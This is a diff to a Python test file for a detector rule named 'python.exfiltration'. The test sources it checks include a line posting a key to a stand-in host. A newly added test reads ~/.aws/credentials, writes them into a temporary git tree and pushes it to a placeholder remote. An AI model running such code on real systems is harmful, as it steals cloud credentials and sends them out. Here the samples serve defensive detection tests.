@@ -249,3 +249,15 @@ def test_clients_kept_on_self_are_sinks() -> None:
         "        self.session.post('https://x.example.net', data=key)\n"
     )
     assert "python.exfiltration" in _rules(source)
+
+
+def test_keys_written_into_a_tree_that_is_pushed() -> None:
+    source = (
+        "import os, subprocess, tempfile\n"
+        "from pathlib import Path\n"
+        "work = Path(tempfile.mkdtemp())\n"
+        "key = (Path.home() / '.aws' / 'credentials').read_text()\n"
+        "(work / 'notes.txt').write_text(key)\n"
+        "subprocess.run(['git', '-C', str(work), 'push', 'https://git.example.net/x.git'])\n"
+    )
+    assert "python.exfiltration" in _rules(source)
